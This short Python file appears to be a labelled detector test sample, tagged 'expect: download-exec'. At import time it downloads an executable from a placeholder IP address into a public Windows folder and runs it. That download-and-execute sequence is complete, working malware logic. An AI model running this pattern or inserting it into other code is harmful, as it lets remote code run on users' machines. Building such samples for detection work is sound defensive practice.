# helpers: one downloads to the path it is given, one runs the path it is
# given; the module calls both with the same path
import subprocess
import requests


def download(url, path):
    r = requests.get(url, stream=True)
    with open(path, "wb") as f:
        for chunk in r.iter_content(8192):
            f.write(chunk)


def run(path):
    return subprocess.Popen([path])  # expect: download-exec


TARGET = "C:\\Users\\Public\\svc.exe"
download("http://203.0.113.4/svc.exe", TARGET)
run(TARGET)
